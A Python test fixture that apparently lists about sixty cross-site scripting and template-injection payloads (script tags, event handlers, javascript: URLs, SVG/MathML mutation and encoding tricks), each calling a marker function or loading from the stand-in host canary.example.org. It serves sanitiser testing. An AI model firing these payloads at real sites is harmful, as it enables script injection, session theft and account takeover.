"""What somebody who means harm types: sixty texts that run where a text is taken for code.

Each calls ``zx`` with its number, or asks the canary's address for it; each ends with its number
as a plain text, so that one sees where it is shown.
"""

from typing import Final

CANARY: Final = "canary.example.org"
SUM: Final = "62773913"  # What a template would make of 7919 times 7927.

_WRITTEN: Final = (
    # Script elements, whole, split, in capitals, and cut open by filters that delete once.
    "<script>zx({n})</script>",
    "<ScRiPt >zx({n})</sCrIpT >",
    "<script src=//canary.example.org/{n}></script>",
    "<scr<script>ipt>zx({n})</scr</script>ipt>",
    "<script/x>zx({n})</script/x>",
    "<script type=module>zx({n})</script>",
    "<svg><script>zx&#40;{n}&#41;</script></svg>",
    # Attributes of events.
    "<img src=x onerror=zx({n})>",
    '<img src="x" onerror="zx({n})"',
    "<svg onload=zx({n})>",
    "<body onload=zx({n})>",
    "<details open ontoggle=zx({n})>",
    "<video><source onerror=zx({n})></video>",
    "<input autofocus onfocus=zx({n})>",
    "<select autofocus onfocus=zx({n})>",
    "<marquee onstart=zx({n})>",
    "<style onload=zx({n})></style>",
    "<p style=animation-name:x onanimationstart=zx({n})>",
    "<audio src=x onerror=zx({n})>",
    "<iframe onload=zx({n})></iframe>",
    "<object data=x onerror=zx({n})>",
    "<img/src='x'/onerror=zx({n})>",
    "<img src=x onerror\x0c=zx({n})>",
    "<x contenteditable onbeforeinput=zx({n}) autofocus tabindex=0 onfocus=zx({n})>",
    # Addresses that are code.
    "javascript:zx({n})",
    "<a href=javascript:zx({n})>",
    "<a href='JaVaScRiPt&colon;zx({n})'>",
    "<a href='java\tscript:zx({n})'>",
    "<a href=' &#14;javascript:zx({n})'>",
    "<iframe src=javascript:parent.zx({n})>",
    "<iframe srcdoc='&lt;script>parent.zx({n})&lt;/script>'>",
    "data:text/html,<script>opener.zx({n})</script>",
    "<object data='data:text/html,<script>parent.zx({n})</script>'>",
    "<embed src=//canary.example.org/{n}>",
    "<form><button formaction=javascript:zx({n})>",
    "<meta http-equiv=refresh content='0;url=javascript:zx({n})'>",
    "<base href=//canary.example.org/{n}/>",
    "vbscript:zx({n})",
    "[x](javascript:zx({n}))",
    # SVG, MathML, and texts that become something else when parsed again.
    "<svg><a xlink:href=javascript:zx({n})><text x=9 y=9>x</text></a></svg>",
    "<svg><animate onbegin=zx({n}) attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=zx({n})></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=zx({n})>",
    "<svg></p><style><a id='</style><img src=x onerror=zx({n})>'>",
    "<noscript><p title='</noscript><img src=x onerror=zx({n})>'>",
    "<!--><img src=x onerror=zx({n})>-->",
    "<![CDATA[><img src=x onerror=zx({n})>]]>",
    # Out of attributes, of text areas and titles, of scripts and of JSON in them.
    '" autofocus onfocus=zx({n}) x="',
    "' autofocus onfocus='zx({n})",
    '"><img src=x onerror=zx({n})>',
    "</textarea></title></style><img src=x onerror=zx({n})>",
    "</script><img src=x onerror=zx({n})>",
    '";zx({n});//',
    "\\u003cimg src=x onerror=zx({n})\\u003e",
    "\u2028zx({n})\u2029',zx({n}),'",
    # Templates, entities, style sheets, and characters that nobody sees.
    "{{7919*7927}} ${7919*7927} {% x %} <%=7919*7927%> #{7919*7927}",
    "&lt;img src=x onerror=zx({n})&gt;&#60;script&#62;zx({n})&#60;/script&#62;",
    "}</style><style>*{background:url(//canary.example.org/{n})}",
    "\u202e<img src=x onerror=zx({n})>\u202c\u200b\u2066</\u200bscript>",
    "\ufeff<\u200dscript>zx({n})</script>\uff1cscript\uff1ezx({n})\uff1c/script\uff1e",
)


def payloads() -> list[str]:
    """Return all, numbered from 1, each with its number as a text behind it."""
    return [
        f"{text.replace('{n}', str(number))} №{number:02}"
        for number, text in enumerate(_WRITTEN, start=1)
    ]
